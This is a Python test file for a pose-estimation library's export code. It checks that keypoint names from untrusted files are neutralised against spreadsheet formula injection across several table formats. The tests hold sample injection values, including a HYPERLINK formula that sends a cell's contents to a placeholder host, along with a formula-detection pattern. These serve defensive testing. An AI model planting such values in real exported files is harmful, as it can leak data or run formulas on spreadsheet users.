"""Names from strangers' files are text in every table, and come back as they were."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from diffpose.cells import plain_name, safe_name
from diffpose.formats.deeplabcut import read_deeplabcut, write_deeplabcut_csv
from diffpose.formats.opensim import write_trc
from diffpose.formats.sleap import read_sleap, write_sleap
from diffpose.formats.table import read_csv, write_csv, write_parquet
from diffpose.kinematics.records import Measurements, Quantity
from diffpose.kinematics.table import to_csv
from diffpose.skeleton import Skeleton
from tests.formats.made_poses import PROVENANCE, sequence, video

FORMULAS = ('=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@SUM(1)", "'=1", " =1", "left_knee")
EVIL = Skeleton("evil", FORMULAS, (), (0.1,) * len(FORMULAS))
VIDEO = video(9)


def starts_a_formula(cell):
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.text(max_size=20))
def test_a_name_comes_back_and_is_never_a_formula(name):
    cell = safe_name(name)

    assert plain_name(cell) == name
    assert not starts_a_formula(cell)


@pytest.mark.parametrize("name", ["left_knee", "Nase", "d'Artagnan", "'quoted'", ""])
def test_ordinary_names_stay_as_they_are(name):
    assert safe_name(name) == name


def test_our_table_is_safe_and_reads_back(tmp_path):
    poses = [sequence(0, [1, 2], EVIL)]
    write_csv(tmp_path / "p.csv", poses, VIDEO)

    cells = pd.read_csv(tmp_path / "p.csv")["keypoint"]

    assert not any(map(starts_a_formula, cells))
    (read,) = read_csv(tmp_path / "p.csv", skeleton=EVIL)
    np.testing.assert_array_equal(read.keypoints, poses[0].keypoints)


def test_numbers_are_numbers(tmp_path):
    poses = [sequence(0, [1], EVIL, keypoints=np.full((1, len(EVIL), 2), -3.5))]
    write_csv(tmp_path / "p.csv", poses, VIDEO)

    assert (pd.read_csv(tmp_path / "p.csv")["x"] == -3.5).all()


def test_parquet_keeps_names_because_nothing_runs_them(tmp_path):
    write_parquet(tmp_path / "p.parquet", [sequence(0, [1], EVIL)], VIDEO)

    assert set(pd.read_parquet(tmp_path / "p.parquet")["keypoint"]) == set(FORMULAS)


def test_deeplabcuts_table_is_safe_and_reads_back(tmp_path):
    poses = [sequence(0, [1, 2], EVIL)]
    write_deeplabcut_csv(tmp_path / "p.csv", poses, VIDEO, PROVENANCE)

    rows = list(csv.reader((tmp_path / "p.csv").read_text().splitlines()))
    assert not any(starts_a_formula(cell) for row in rows[:3] for cell in row)
    (read,) = read_deeplabcut(tmp_path / "p.csv").sequences
    assert read.skeleton.keypoints == FORMULAS


def test_markers_are_safe_and_stay_in_their_cells(tmp_path):
    tabbed = Skeleton("tabbed", ("a\tb", *FORMULAS), (), (0.1,) * (len(FORMULAS) + 1))
    write_trc(tmp_path / "p.trc", [sequence(0, [1, 2], tabbed)], VIDEO)

    heading = (tmp_path / "p.trc").read_text().splitlines()[3].split("\t")

    assert heading[2::3] == ["a b", *map(safe_name, FORMULAS)]


def test_measured_names_are_safe():
    number = Quantity("=1+1", "x", -2.0, -3.0, -1.0, "deg")
    rows = list(csv.reader(io.StringIO(to_csv(Measurements(0, "right", quantities=(number,))))))

    assert rows[1][1] == "'=1+1"
    assert float(rows[1][4]) == -2


def test_a_side_without_its_other_is_exported_to_sleap(tmp_path):
    alone = Skeleton("alone", ("nose", "left_hip"), (("nose", "left_hip"),), (0.1, 0.1))

    assert alone.mirror.tolist() == [0, 1]
    write_sleap(tmp_path / "p.slp", [sequence(0, [1, 2], alone)], VIDEO, PROVENANCE)
    assert read_sleap(tmp_path / "p.slp").sequences[0].skeleton.keypoints == alone.keypoints
